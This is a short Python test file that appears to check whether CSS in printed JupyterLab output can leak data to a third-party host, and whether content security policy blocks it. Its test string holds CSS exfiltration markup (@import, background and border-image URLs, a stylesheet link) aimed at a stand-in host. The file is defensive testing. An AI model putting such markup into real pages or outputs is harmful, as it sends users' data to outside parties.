"""Print styles that import from a third party, the address being the data.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `style-src` and `img-src` let no other origin in; from tier 2 on printed markup keeps no such element
"""

OUTPUT = """
<style>
@import url(THIRD/secret.css);
#leak {background: url(THIRD/secret.png); list-style-image: url(THIRD/secret-2.png)}
</style>
<link rel="stylesheet" href="THIRD/secret-3.css">
<p id="leak" style="border-image: url(THIRD/secret-4.png)">.</p>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
